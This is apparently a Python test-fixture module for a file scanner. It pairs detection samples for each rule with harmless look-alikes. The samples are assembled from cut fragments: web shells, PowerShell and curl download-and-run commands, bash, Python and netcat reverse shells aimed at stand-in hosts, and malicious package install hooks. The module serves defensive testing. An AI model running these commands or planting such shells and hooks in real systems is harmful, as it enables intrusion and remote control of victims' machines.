"""Bad samples for every rule of the project, and harmless twins.

The samples are put together from pieces, so that neither this file nor a scanner's view of the source tree holds one
whole.  ``~`` stands where a sample's text is cut.
"""

from __future__ import annotations

import base64
import struct

from gate.examine.executable.samples import tiny_elf, tiny_pe
from gate.examine.rules import CANARY

PNG = b"\x89PNG\r\n\x1a\n" + bytes(64) + b"IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(64) + b"\xff\xd9"
BITMAP = b"BM" + bytes(64)
TEXT = base64.b64encode(bytes(range(256)) * 4).decode()


def joined(text: str) -> bytes:
    """Return a text without the marks at which it is cut here."""
    return text.replace("~", "").encode()


def windows_program() -> bytes:
    """Return a PE whose DOS part holds the message that linkers put there."""
    message = b"This program " + b"cannot be run in " + b"DOS mode.\r\r\n$"
    dos = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0".ljust(0x3C, b"\0") + struct.pack("<I", 0x80)
    return (dos + message).ljust(0x80, b"\0") + tiny_pe()[0x40:]


def with_section(name: bytes) -> bytes:
    """Return a PE with one section of that name."""
    return windows_program() + name.ljust(8, b"\0") + bytes(64)


def upx_program() -> bytes:
    return with_section(b"UP" + b"X0") + b"UP" + b"X1\0\0\0\0" + bytes(32) + b"UP" + b"X!" + bytes(32)


def pem(kind: str) -> bytes:
    body = "\n".join(TEXT[start : start + 64] for start in range(0, 640, 64))
    return joined(f"-----BE~GIN {kind}-----\n{body}\n-----E~ND {kind}-----\n")


def eicar() -> bytes:
    return joined("X5O!P%@AP~[4\\PZX54(P^)~7CC)7}$EICAR~-STANDARD-ANTI~VIRUS-TEST-FILE~!$H+H*")


PHP = "<?p~hp "
BAD: dict[str, list[bytes]] = {
    "gate-canary": [CANARY, b"before " + CANARY + b" after"],
    "RG-TEST-0001": [eicar()],
    "RG-WEB-0001": [
        joined(PHP + '@eval($_P~OST["c"]); ?>'),
        joined("<~?= shell_~exec($_G~ET['c']) ?>"),
        joined(PHP + "assert(base64_~decode($_COO~KIE['x']));"),
    ],
    "RG-WEB-0002": [joined(PHP + f"eva~l(gzinf~late(base64_~decode('{TEXT}')));")],
    "RG-WEB-0003": [joined('<% Runtime.get~Runtime().ex~ec(request.get~Parameter("cmd")); %>')],
    "RG-WEB-0004": [joined('<%@ Pa~ge Language="Jscript"%><% ev~al(Request.It~em["z"]) %>')],
    "RG-WEB-0005": [
        b"GIF89a" + bytes(20) + joined(PHP + "sys~tem($_G~ET['c']); ?>"),
        JPEG + joined(PHP + "include $_G~ET['f']; ?>"),
    ],
    "RG-WEB-0006": [
        joined(PHP + "$_G~ET['a']($_P~OST['b']);"),
        joined(PHP + "array_~map($_REQ~UEST['f'], $x);"),
    ],
    "RG-WEB-0007": [
        joined('<%ev~al request("x")%>'),
        joined('<%@ ev~al(Request.Item["x"],"unsa~fe");%>'),
        joined("<% exe~cute(request('cmd')) %>"),
    ],
    "RG-DNR-0001": [
        joined(
            "powershell -w hid~den -ep byp~ass -c \"I~EX (New-Object Net.WebClient).Download~String('http://x.example/a')\""
        ),
        joined(
            "powershell -ep byp~ass -w hid~den -c \"I~EX (New-Object Net.WebClient).Download~String('http://x.example/a')\""
        )
        .decode()
        .encode("utf-16-le"),
        joined('powershell -windowstyle hid~den -c "i~wr http://x.example/a | i~ex"'),
    ],
    "RG-DNR-0002": [joined(f"power~shell.exe -nop -w hid~den -e~nc {TEXT[:200]}")],
    "RG-DNR-0003": [joined(f"echo '{TEXT[:200]}' | base~64 -d | ba~sh\n")],
    "RG-DNR-0004": [joined("cu~rl -s http://192.0.2.1/a -o /tm~p/.x; chm~od +x /tm~p/.x; nohup /tm~p/.x &\n")],
    "RG-DNR-0005": [
        joined(
            'Set h = Create~Object("MSXML2.XML~HTTP")\r\nh.Open "GET", "http://x.example/a", False\r\nh.Send\r\n'
            'Set s = CreateObject("ADODB.Stream")\r\ns.Write h.responseBody\r\ns.SaveTo~File "a.exe", 2\r\n'
            'CreateObject("WScript.Sh~ell").Ru~n "a.exe"\r\n'
        ),
        joined(
            "var h = new Active~XObject('Microsoft.XML~HTTP'); s.SaveTo~File('a.exe');\n"
            "new ActiveXObject('WScript.Sh~ell').Ru~n('a.exe');\n"
        )
        .decode()
        .encode("utf-16-le"),
    ],
    "RG-DNR-0006": [
        joined(f'ev~al(at~ob("{TEXT}"));'),
        joined(f"new Func~tion(unesc~ape('{'%41' * 60}'))();"),
        joined(f"ev~al(Buf~fer.from('{TEXT}', 'base64').toString())"),
    ],
    "RG-REV-0001": [joined("ba~sh -i >& /dev/t~cp/192.0.2.1/4444 0>&1")],
    "RG-REV-0002": [
        joined(
            "import os,socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.du~p2(s.fileno(),0)\n"
            "os.du~p2(s.fileno(),1)\nsubpro~cess.call(['/bi~n/sh','-i'])\n"
        )
    ],
    "RG-REV-0003": [joined("n~c -n 192.0.2.1 4444 -e /bi~n/sh"), joined("nc~at.exe evil.example 443 -e cm~d.exe")],
    "RG-INS-0001": [
        joined("from setuptools import setup\nex~ec(requests.g~et('https://x.example/a').text)\nset~up(name='x')\n")
    ],
    "RG-INS-0002": [
        joined(f"import base64\nex~ec(base64.b64~decode('{TEXT}'))\n"),
        joined(f"ex~ec(__imp~ort__('zlib').decom~press(base64.b64decode(b'{TEXT}')))\n"),
    ],
    "RG-INS-0003": [
        joined('{"scripts": {"preinst~all": "cu~rl -s https://x.example/a | ba~sh"}}'),
        joined('{"scripts": {"postinst~all": "no~de -e \\"require(\'child_pro~cess\').exec(\'id\')\\""}}'),
    ],
    "RG-EMB-0001": [PNG + windows_program(), JPEG + windows_program(), BITMAP + tiny_pe()],
    "RG-EMB-0002": [PNG + tiny_elf(), b"GIF89a" + bytes(100) + tiny_elf()],
    "RG-EMB-0003": [b"$x = '" + base64.b64encode(windows_program()) + b"'"],
    "RG-PAC-0001": [upx_program()],
    "RG-PAC-0002": [with_section(b".vm" + b"p0"), with_section(b".asp" + b"ack"), with_section(b".MPR" + b"ESS1")],
    "RG-SEC-0001": [
        pem("PRIV~ATE KEY"),
        pem("RSA PRIV~ATE KEY"),
        pem("OPENSSH PRIV~ATE KEY"),
        pem("PGP PRIV~ATE KEY BLOCK"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "gate-canary": [CANARY[:-1], CANARY[1:]],
    "RG-TEST-0001": [b"The EICAR test file has 68 characters.", eicar()[:-2]],
    "RG-WEB-0001": [
        joined(PHP + "$name = htmlspecialchars($_POST['name']); echo $name; ?>"),
        b"Never write eval($_" + b"POST[...]) in a page.",
        joined(PHP + "if (isset($_GET['c'])) { exec('ls'); }"),
    ],
    "RG-WEB-0002": [joined(PHP + "$data = gzinflate(base64_decode($stored)); echo $data;")],
    "RG-WEB-0003": [b'<% String name = request.getParameter("name"); %>', b'Runtime.getRuntime().exec("ls");'],
    "RG-WEB-0004": [b'<%@ Page Language="C#" %><%# Eval("Name") %>'],
    "RG-WEB-0005": [PNG, JPEG + b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"],
    "RG-WEB-0006": [joined(PHP + "array_map('trim', $_POST['lines']); $f($_GET['a']);")],
    "RG-WEB-0007": [b'<%= request("name") %>', b'<% name = request.form("name") %>'],
    "RG-DNR-0001": [
        b"Invoke-WebRequest https://example.org/a.zip -OutFile a.zip\n",
        b"powershell -ExecutionPolicy Bypass -File build.ps1\n",
    ],
    "RG-DNR-0002": [b"powershell -WindowStyle Hidden -File a.ps1\n", f"data: {TEXT}\n".encode()],
    "RG-DNR-0003": [f"echo '{TEXT[:200]}' | base64 -d > picture.png\n".encode(), b"echo aGk= | base64 -d\n"],
    "RG-DNR-0004": [b"curl -fsSL https://example.org/a.tar.gz -o /tmp/a.tar.gz; tar xf /tmp/a.tar.gz\n"],
    "RG-DNR-0005": [b'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "x", False\r\nMsgBox h.responseText\r\n'],
    "RG-DNR-0006": [f'const picture = atob("{TEXT}"); show(picture);'.encode(), b'eval(atob("MSsx"))'],
    "RG-REV-0001": [b"bash -i\n", b"exec 3<>/dev/tcp/example.org/80\n"],
    "RG-REV-0002": [b"import os\nos.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)\nsubprocess.call(['ls'])\n"],
    "RG-REV-0003": [b"nc -z example.org 443\n", b"nc -l 4444 > file\n"],
    "RG-INS-0001": [b"from setuptools import setup\nexec(open('version.py').read())\nsetup(name='x')\n"],
    "RG-INS-0002": [f"data = base64.b64decode('{TEXT}')\n".encode(), b"exec(base64.b64decode('cGFzcw=='))\n"],
    "RG-INS-0003": [
        b'{"scripts": {"postinstall": "node scripts/build.js", "test": "curl https://example.org | grep x"}}',
    ],
    "RG-EMB-0001": [PNG + b"MZ" + bytes(200), windows_program(), PNG + windows_program()[:0x80]],
    "RG-EMB-0002": [PNG + b"\x7fELF is a magic", tiny_elf()],
    "RG-EMB-0003": [f"x = '{TEXT}'".encode(), b"TVqQ is how a program begins in base64"],
    "RG-PAC-0001": [with_section(b".text"), b"UPX" + b"! is a packer; UPX" + b"0 and UPX" + b"1 are its sections"],
    "RG-PAC-0002": [with_section(b".text"), windows_program() + bytes(2000) + b".vm" + b"p0\0\0\0"],
    "RG-SEC-0001": [
        pem("PUB~LIC KEY"),
        pem("ENCRYPTED PRIV~ATE KEY"),
        joined("A key file begins with -----BE~GIN PRIV~ATE KEY----- and ends with a similar line.\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
